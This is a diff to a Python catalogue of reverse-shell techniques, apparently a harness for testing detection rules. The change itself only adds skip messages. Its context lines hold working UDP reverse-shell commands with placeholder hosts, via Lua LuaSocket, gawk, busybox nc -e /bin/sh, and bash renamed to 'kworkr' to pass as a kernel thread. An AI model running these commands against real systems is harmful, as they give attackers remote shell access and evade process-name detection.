@@ -32,6 +32,7 @@ class Technique:
     note: str
     tools: tuple[str, ...] = ()
     probe: tuple[str, ...] | None = None
+    probe_note: str = ""  # what a failed probe means, for the "skipped" message
     timeout: float = 4.0
     tags: tuple[str, ...] = ()
 
@@ -53,7 +54,7 @@ class Technique:
             except (OSError, subprocess.TimeoutExpired):
                 ok = False
             if not ok:
-                missing.append(" ".join(self.probe))
+                missing.append(self.probe_note or " ".join(self.probe))
         return missing
 
 
@@ -116,6 +117,7 @@ TECHNIQUES: tuple[Technique, ...] = (
               ("lua5.4", "-e", "local s=require(\"socket\").udp();s:setpeername(\"@HOST4@\",@UDP@);s:send(\"$ \");"
                "local c=s:receive();if c then s:send(io.popen(c):read(\"*a\")) end"),
               True, "lua LuaSocket udp + io.popen", ("lua5.4",), probe=("lua5.4", "-e", "require('socket')"),
+              probe_note="LuaSocket (Debian: lua-socket)",
               tags=("interpreter",)),
     Technique("gawk_inet_udp",
               ("gawk", "BEGIN{s=\"/inet/udp/0/@HOST4@/@UDP@\";printf \"$ \" |& s;s |& getline c;"
@@ -133,7 +135,8 @@ TECHNIQUES: tuple[Technique, ...] = (
               True, "node dgram (a1=80802; not in the seed rule's list)", ("node",), tags=("interpreter",)),
     Technique("busybox_nc_udp", ("busybox", "nc", "-u", "@HOST4@", "@UDP@", "-e", "/bin/sh"), True,
               "busybox nc -u -e (process.name busybox); needs a busybox built with UDP support in nc",
-              ("busybox",), probe=("sh", "-c", "busybox nc --help 2>&1 | grep -q -e ' -u'"), timeout=2.5,
+              ("busybox",), probe=("sh", "-c", "busybox nc --help 2>&1 | grep -q -e ' -u'"),
+              probe_note="busybox nc without UDP (-u) support", timeout=2.5,
               tags=("relay",)),
     Technique("renamed_bash_udp",
               _sh("cp \"$(command -v bash)\" @TMP@/kworkr; @TMP@/kworkr -c \"@TMP@/kworkr -i >& /dev/udp/@HOST4@/@UDPB@ 0>&1\""),
